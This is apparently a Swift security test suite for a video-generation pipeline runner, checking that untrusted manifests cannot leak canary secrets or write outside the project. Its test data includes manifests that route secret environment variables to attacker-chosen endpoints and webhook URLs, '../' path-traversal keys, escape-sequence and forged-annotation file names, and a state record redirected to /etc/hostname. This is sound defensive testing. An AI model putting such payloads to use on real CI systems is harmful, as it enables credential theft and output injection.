import Foundation
import Storage
import TestSupport
import Testing

/// The hostile-manifest suite (docs/security.md): a manifest from a pull request, run with canary secrets in the
/// environment, cannot get a secret into any output, file or request, nor make the runner write outside its project;
/// a careless server's text and an edited state file do no damage. Each kind of attack of issue #12 is one test here;
/// the lock and webhook kinds live beside their code (RunLockTests, WebhookSecurityTests).
@Suite(.serialized)
struct HostileManifestTests {
    /// Distinctive fake secrets. Every one contains `CANARY`, so a leak of any part of a value's start shows, and each
    /// ends in a unique tail, so a leak of its end shows too.
    static let canaries: [String: String] = [
        "AWS_ACCESS_KEY_ID": "AKIACANARYKEYID7F3C9",
        "AWS_SECRET_ACCESS_KEY": "CANARY-aws-secret-access-key-7f3c9e1d2b",
        "AWS_SESSION_TOKEN": "CANARY-aws-session-token-5a8d0c4e6f",
        "RUNWAYML_API_SECRET": "CANARY-runway-api-key-3b9f7a2c1e",
    ]

    /// A project whose environment holds the canaries, with no endpoint or trust set by the test runner's own shell.
    static func project(frames: Int = 2) throws -> PipelineProject {
        var project = try PipelineProject.make(frames: frames)
        for name in [
            "AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_S3", "RUNWAYML_BASE_URL", "RUNNER_TRUSTED_HOSTS", "RUNNER_SECRET_ENV",
            "AWS_PROFILE", "AWS_CONFIG_FILE", "AWS_SHARED_CREDENTIALS_FILE",
        ] {
            project.environment.removeValue(forKey: name)
        }
        for (name, value) in canaries { project.environment[name] = value }
        project.environment["AWS_REGION"] = "us-east-1"
        // No shared files: only the canaries can sign.
        project.environment["AWS_CONFIG_FILE"] = project.path("no-aws-config")
        project.environment["AWS_SHARED_CREDENTIALS_FILE"] = project.path("no-aws-credentials")
        return project
    }

    /// Fails for every canary (or a tell-tale part of one) found in `texts`, saying where.
    static func expectNoCanary(_ texts: [String: String], sourceLocation: SourceLocation = #_sourceLocation) {
        for (place, text) in texts {
            #expect(
                !text.contains("CANARY"), "a canary secret reached \(place): \(text.prefix(2000))",
                sourceLocation: sourceLocation)
            for (name, value) in canaries {
                #expect(
                    !text.contains(String(value.suffix(10))), "the end of \(name) reached \(place)",
                    sourceLocation: sourceLocation)
            }
        }
    }

    /// Everything the runner wrote in the project (state, journal, records, outputs' JSON) as text.
    static func writtenText(_ project: PipelineProject) -> String {
        project.files(under: ".").keys.filter {
            !$0.hasPrefix("frames/") && !$0.hasSuffix(".mp4") && !$0.hasSuffix(".png")
                && !$0.hasSuffix(".jpg") && !$0.hasPrefix("logs/")
        }
        .sorted().compactMap { try? String(contentsOfFile: project.path($0), encoding: .utf8) }.joined(separator: "\n")
    }

    /// Runs the runner in the project with `arguments`.
    static func runner(_ project: PipelineProject, _ arguments: [String]) throws -> ProcessOutput {
        try run(PackagePaths.runner, arguments, environment: project.environment, in: project.folder)
    }

    /// A Runway pipeline over local frames; `provider` and `clips` add settings (", key: value") to those entries.
    static func runwayManifest(provider: String = "", clips: String = "") -> String {
        """
        version: 1
        name: hostile
        providers:
          runway: { type: runway, apiKey: "${env:RUNWAYML_API_SECRET}"\(provider) }
        stages:
          frames: { type: frames, from: ./frames/ }
          clips:  { type: generate, needs: [frames], provider: runway, model: gen4_turbo, ratio: "1280:720", duration: 5,\(clips) to: ./out/clips/ }
        """
    }

    /// A kenburns pipeline over local frames; `top` and `framesLine` replace parts of it.
    static func manifest(top: String = "", from: String = "./frames/", frames extra: String = "", publish: String = "")
        -> String
    {
        """
        version: 1
        name: hostile
        \(top)
        providers:
          draft: { type: kenburns }
        stages:
          frames: { type: frames, from: "\(from)"\(extra) }
          clips:  { type: generate, needs: [frames], provider: draft, ratio: "160:90", duration: 1, to: ./out/clips/ }
          film:   { type: merge, needs: [clips] }
          publish: { type: publish, needs: [film], to: ./out/film.mp4\(publish) }
        """
    }

    // MARK: - 1. Credentials go only where the trusted side sends them

    enum Command: String, CaseIterable, Sendable { case validate, plan, apply }

    @Test(arguments: Command.allCases)
    func aManifestS3EndpointReceivesNothing(command: Command) throws {
        let project = try Self.project()
        defer { project.remove() }
        let listener = try CanaryListener()
        // With the secret in the path (the reproduction) and without it: a manifest endpoint is refused either way.
        for endpoint in ["\(listener.base)/${env:AWS_SECRET_ACCESS_KEY}", listener.base] {
            try project.write(manifest: Self.manifest(top: "s3: { endpoint: \"\(endpoint)\" }", from: "s3://bucket/f/"))
            let result = try project.runner(command.rawValue, project.manifest)
            #expect(
                result.status != 0,
                "\(command) accepted a manifest endpoint nobody trusted:\n\(result.stdout)\(result.stderr)")
            #expect(
                result.stdout.contains("RUNNER_TRUSTED_HOSTS") || result.stderr.contains("RUNNER_TRUSTED_HOSTS")
                    || endpoint.contains("${env"), "the refusal does not say how to allow the host: \(result.stderr)")
            Self.expectNoCanary(["stdout": result.stdout, "stderr": result.stderr, "files": Self.writtenText(project)])
        }
        let received = try listener.received()
        #expect(received.isEmpty, "the manifest's endpoint was contacted: \(received)")
    }

    @Test func aTrustedManifestEndpointIsUsedButNeverSeesASecretValue() throws {
        var project = try Self.project()
        defer { project.remove() }
        let listener = try CanaryListener()
        project.environment["RUNNER_TRUSTED_HOSTS"] = "127.0.0.1:\(listener.port)"
        try project.write(
            manifest: Self.manifest(top: "s3: { endpoint: \"\(listener.base)\" }", from: "s3://bucket/f/"))
        let result = try project.runner("plan", project.manifest)
        #expect(result.status != 0, "the listener refuses everything, so the plan cannot list the frames")
        let received = try listener.received()
        #expect(!received.isEmpty, "a trusted endpoint was not used")
        // SigV4 sends the key id and a signature, never the secret key; the session token is sent (S3 needs it) to
        // this trusted host only, so only the secret key's value is checked here.
        let secret = try #require(Self.canaries["AWS_SECRET_ACCESS_KEY"])
        #expect(!received.joined().contains(secret))
        #expect(!result.stdout.contains(secret) && !result.stderr.contains(secret))
    }

    @Test func aManifestRunwayBaseURLNeverReceivesTheKey() throws {
        let project = try Self.project()
        defer { project.remove() }
        let listener = try CanaryListener()
        try project.write(manifest: Self.runwayManifest(provider: ", baseURL: \"\(listener.base)\""))
        for command in Command.allCases {
            let result = try project.runner(command.rawValue, project.manifest)
            #expect(
                result.status != 0, "\(command) used a base URL the manifest chose: \(result.stdout)\(result.stderr)")
            Self.expectNoCanary(["\(command) stdout": result.stdout, "\(command) stderr": result.stderr])
        }
        #expect(try listener.received().isEmpty, "the manifest's base URL was contacted")
        Self.expectNoCanary(["files": Self.writtenText(project)])
    }

    /// The README's pull-request job holds no Runway key: plan must work without one (it sends nothing to Runway),
    /// and apply, which would send it, must refuse before anything is made.
    @Test func planNeedsNoRunwayKeyAndApplyRefusesWithoutOne() throws {
        var project = try Self.project()
        defer { project.remove() }
        project.environment.removeValue(forKey: "RUNWAYML_API_SECRET")
        try project.write(manifest: Self.runwayManifest())
        let plan = try project.runner("plan", project.manifest, "--detailed-exitcode")
        #expect(plan.status == 3, "plan without a Runway key: \(plan.stdout)\(plan.stderr)")
        #expect(plan.stdout.contains("frame_01.png") && plan.stdout.contains("frame_02.png"))
        #expect(plan.stderr.contains("RUNWAYML_API_SECRET"), "the warning does not name the variable: \(plan.stderr)")
        let apply = try project.runner("apply", project.manifest)
        #expect(apply.status == 2, "apply without a Runway key: \(apply.stdout)\(apply.stderr)")
        #expect(apply.stderr.contains("RUNWAYML_API_SECRET is not set"), "\(apply.stderr)")
        #expect(project.files(under: "out").isEmpty, "apply made something without the key it needs")
    }

    // MARK: - 2. Secrets never become text

    /// One way a secret can travel into a field that is printed.
    struct Route: Sendable, CustomTestStringConvertible {
        let name: String
        let manifest: String
        var arguments: [String] = []
        var environment: [String: String] = [:]
        var testDescription: String { name }
    }

    static let routes: [Route] = [
        Route(name: "a frames folder without its slash", manifest: manifest(from: "./${env:AWS_SECRET_ACCESS_KEY}")),
        Route(name: "a frames folder with its slash", manifest: manifest(from: "./${env:AWS_SECRET_ACCESS_KEY}/")),
        Route(name: "the session", manifest: manifest(top: "session: \"${env:AWS_SECRET_ACCESS_KEY}\"")),
        Route(
            name: "a webhook URL",
            manifest: manifest(publish: ", webhook: \"https://hooks.example.com/${env:RUNWAYML_API_SECRET}\"")),
        Route(
            name: "a variable",
            manifest: manifest(top: "vars: { folder: \"${env:AWS_SESSION_TOKEN}\" }", from: "./${vars.folder}/")),
        Route(name: "concatenation", manifest: manifest(top: "session: \"run-${env:AWS_ACCESS_KEY_ID}-x\"")),
        Route(
            name: "a --var value", manifest: manifest(top: "vars: { user: alice }", from: "./${vars.user}/"),
            arguments: ["--var", "user=CANARY-aws-secret-access-key-7f3c9e1d2b"]),
        Route(
            name: "a variable the trusted side marks secret",
            manifest: manifest(top: "session: \"${env:MY_DEPLOY_VALUE}\""),
            environment: ["MY_DEPLOY_VALUE": "CANARY-marked-value-0d1e2f3a4b", "RUNNER_SECRET_ENV": "MY_DEPLOY_VALUE"]),
        Route(
            name: "a variable marked with --secret-env", manifest: manifest(top: "session: \"${env:MY_DEPLOY_VALUE}\""),
            arguments: ["--secret-env", "MY_DEPLOY_VALUE"],
            environment: ["MY_DEPLOY_VALUE": "CANARY-flagged-value-9e8d7c6b5a"]),
        Route(
            name: "a plain variable holding a secret's value",
            manifest: manifest(top: "session: \"${env:PLAIN_COPY}\""),
            environment: ["PLAIN_COPY": "CANARY-runway-api-key-3b9f7a2c1e"]),
    ]

    @Test(arguments: routes)
    func aSecretInAPrintedFieldIsRefusedByName(route: Route) throws {
        var project = try Self.project()
        defer { project.remove() }
        for (name, value) in route.environment { project.environment[name] = value }
        try project.write(manifest: route.manifest)
        for format in ["text", "github", "json"] {
            let result = try Self.runner(project, ["validate", project.manifest, "--format", format] + route.arguments)
            #expect(
                result.status == 2,
                "\(route.name), \(format): a secret in a printed field was accepted:\n\(result.stdout)\(result.stderr)")
            Self.expectNoCanary(["validate --format \(format) stdout": result.stdout, "stderr": result.stderr])
            let output = result.stdout + result.stderr
            #expect(
                output.contains("secret"),
                "\(route.name), \(format): the error does not say a secret is involved: \(output)")
        }
        for command in ["plan", "apply"] {
            let result = try Self.runner(project, [command, project.manifest] + route.arguments)
            #expect(result.status != 0, "\(route.name): \(command) ran with a secret in a printed field")
            Self.expectNoCanary(["\(command) stdout": result.stdout, "\(command) stderr": result.stderr])
        }
        Self.expectNoCanary(["files": Self.writtenText(project)])
    }

    // MARK: - 3. Nothing is written outside the project

    @Test func anS3KeyWithDotDotSegmentsWritesNothingOutsideTheProject() async throws {
        var project = try Self.project()
        defer { project.remove() }
        let store = try await Moto.store("escape")
        let escape = "escape-\(UUID().uuidString.prefix(8))"
        let outside = URL(fileURLWithPath: "/tmp/\(escape)")
        defer { try? FileManager.default.removeItem(at: outside) }
        let frame = project.folder.appendingPathComponent("frames/frame_01.png")
        try await store.put("f/frame_01.png", from: frame, contentType: "image/png")
        try await store.put(
            "f/" + String(repeating: "../", count: 12) + "tmp/\(escape)/evil.png", from: frame, contentType: "image/png"
        )
        for (name, value) in Moto.awsEnvironment() where name.hasPrefix("AWS_") { project.environment[name] = value }
        project.environment["AWS_ENDPOINT_URL"] = try Moto.endpoint().absoluteString
        try project.write(manifest: Self.manifest(from: "s3://\(store.bucket)/f/"))

        let frames = try project.runner("frames", "s3://\(store.bucket)/f/")
        #expect(frames.stdout.contains("frame_01.png"))
        let plan = try project.runner("plan", project.manifest)
        #expect(
            plan.stdout.contains("evil.png") || plan.stderr.contains("evil.png"),
            "the refused frame is not named: \(plan.stdout)")
        let apply = try project.runner("apply", project.manifest)
        #expect(
            !FileManager.default.fileExists(atPath: outside.path),
            "apply wrote outside the project: \(apply.stdout)\(apply.stderr)")
        let tmp = try FileManager.default.contentsOfDirectory(atPath: "/tmp").filter { $0.hasPrefix(escape) }
        #expect(tmp.isEmpty)
        // The refused frame is named (escaped) with its reason; its path is never a destination (`-> PATH`).
        #expect(
            !(apply.stdout + apply.stderr).contains("-> /tmp/\(escape)"), "the escaping path was used as a destination")
        #expect(
            (apply.stdout + apply.stderr).contains("refused: its name has a `..` segment"),
            "the refusal is not reported")
    }

    /// A destination outside the project is refused by plan and apply before anything is made (no clip is paid for
    /// only to be refused a place), and allowed when the environment names the folder in RUNNER_TRUSTED_PATHS.
    @Test func aDestinationOutsideTheProjectIsRefusedBeforeAnyWorkUnlessTheEnvironmentTrustsIt() throws {
        var project = try Self.project()
        defer { project.remove() }
        let outside = URL(fileURLWithPath: "/tmp/outside-\(UUID().uuidString.prefix(8))")
        defer { try? FileManager.default.removeItem(at: outside) }
        let manifest = Self.manifest().replacingOccurrences(of: "to: ./out/clips/", with: "to: \(outside.path)/clips/")
        try project.write(manifest: manifest)
        for command in ["plan", "apply"] {
            let result = try project.runner(command, project.manifest)
            #expect(result.status == 1, "\(command): \(result.stdout)\(result.stderr)")
            #expect(
                result.stderr.contains("refused to write") && result.stderr.contains("RUNNER_TRUSTED_PATHS"),
                "\(result.stderr)")
        }
        #expect(!FileManager.default.fileExists(atPath: outside.path), "something was written outside the project")
        #expect(
            project.files(under: "out").isEmpty && project.files(under: ".runner").isEmpty,
            "work was done before the refusal")

        project.environment["RUNNER_TRUSTED_PATHS"] = outside.path
        let trusted = try project.runner("apply", project.manifest)
        #expect(trusted.status == 0, "\(trusted.stdout)\(trusted.stderr)")
        #expect((try? FileManager.default.contentsOfDirectory(atPath: outside.path + "/clips").count) == 2)
    }

    @Test func aFrameNameWithControlCharactersIsPrintedEscaped() throws {
        let project = try Self.project()
        defer { project.remove() }
        let hostile = "frame_02\u{1B}]0;pwned\u{07}\n::error::forged.png"
        try FileManager.default.copyItem(
            atPath: project.path("frames/frame_02.png"), toPath: project.path("frames/\(hostile)"))
        try project.write(manifest: Self.manifest())
        for arguments in [
            ["frames", "./frames/"], ["plan", project.manifest], ["apply", project.manifest],
            ["apply", project.manifest, "--format", "json"],
        ] {
            let result = try Self.runner(project, arguments)
            let output = result.stdout + result.stderr
            #expect(!output.contains("\u{1B}]0;pwned"), "\(arguments[0]) printed a raw escape sequence")
            #expect(!output.contains("\n::error::forged"), "\(arguments[0]) let a name forge an annotation line")
        }
    }

    // MARK: - 4. Server text is inert

    @Test func aServerThatEchoesTheKeyCannotPutItInOutputEventsOrRecords() throws {
        var project = try Self.project()
        defer { project.remove() }
        let listener = try CanaryListener(.echo400)
        // The environment (trusted) points Runway at a careless server that repeats request headers in its errors.
        project.environment["RUNWAYML_BASE_URL"] = listener.base
        try project.write(manifest: Self.runwayManifest(provider: ", pollInterval: 50ms", clips: " retries: 0,"))
        let text = try project.runner("apply", project.manifest)
        let json = try project.runner("apply", project.manifest, "--format", "json")
        let received = try listener.received().joined()
        #expect(
            received.contains("Bearer CANARY-runway"),
            "the key was not sent to the trusted base URL, so nothing was tested")
        #expect(text.status != 0 && json.status != 0)
        Self.expectNoCanary([
            "apply stdout": text.stdout, "apply stderr": text.stderr, "events": json.stdout,
            "json stderr": json.stderr, "files": Self.writtenText(project),
        ])
        for (place, output) in [
            "apply": text.stdout + text.stderr, "events": json.stdout + json.stderr, "files": Self.writtenText(project),
        ] {
            #expect(!output.contains("\u{1B}[31m"), "a server's escape sequence reached \(place) raw")
        }
    }

    // MARK: - 5. State is checked, not trusted

    /// The merge stage's record (there is one film).
    static func filmRecord(_ project: PipelineProject) throws -> String {
        let records = project.files(under: ".runner").keys.filter { $0.contains("/film/") && $0.hasSuffix(".json") }
        return try #require(records.first, "no film record among \(project.files(under: ".runner").keys.sorted())")
    }

    @Test func aFilmRecordPointingElsewhereIsNotPublished() throws {
        let project = try Self.project()
        defer { project.remove() }
        try project.write(manifest: Self.manifest())
        let first = try project.runner("apply", project.manifest)
        #expect(first.status == 0, "\(first.stdout)\(first.stderr)")
        let record = project.path(try Self.filmRecord(project))
        var object = try #require(
            try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: record))) as? [String: Any])
        var output = try #require(object["output"] as? [String: Any])
        let target = "/etc/hostname"
        let size = try #require(try FileManager.default.attributesOfItem(atPath: target)[.size] as? Int)
        output["location"] = target
        output["size"] = size
        object["output"] = output
        try JSONSerialization.data(withJSONObject: object).write(to: URL(fileURLWithPath: record))
        try FileManager.default.removeItem(atPath: project.path("out/film.mp4"))

        let plan = try project.runner("plan", project.manifest)
        #expect(!plan.stdout.contains(target), "plan believes the forged record: \(plan.stdout)")
        let second = try project.runner("apply", project.manifest)
        #expect(second.status == 0, "\(second.stdout)\(second.stderr)")
        let published = try Data(contentsOf: URL(fileURLWithPath: project.path("out/film.mp4")))
        #expect(
            published != (try Data(contentsOf: URL(fileURLWithPath: target))), "/etc/hostname was published as the film"
        )
        let probed = try ProbedVideo.of(project.path("out/film.mp4"))
        #expect(probed.duration > 1.5)
    }

    @Test func aTruncatedRecordNamesItsFile() throws {
        let project = try Self.project()
        defer { project.remove() }
        try project.write(manifest: Self.manifest())
        let first = try project.runner("apply", project.manifest)
        #expect(first.status == 0, "\(first.stdout)\(first.stderr)")
        let relative = try Self.filmRecord(project)
        let record = URL(fileURLWithPath: project.path(relative))
        let data = try Data(contentsOf: record)
        try data.prefix(data.count / 2).write(to: record)
        for command in ["plan", "status", "apply"] {
            let result = try project.runner(command, project.manifest)
            let output = result.stdout + result.stderr
            #expect(
                output.contains(record.lastPathComponent), "\(command) does not name the unreadable record: \(output)")
            #expect(!output.contains("dataCorrupted"), "\(command) printed a bare decoding error: \(output)")
        }
    }
}
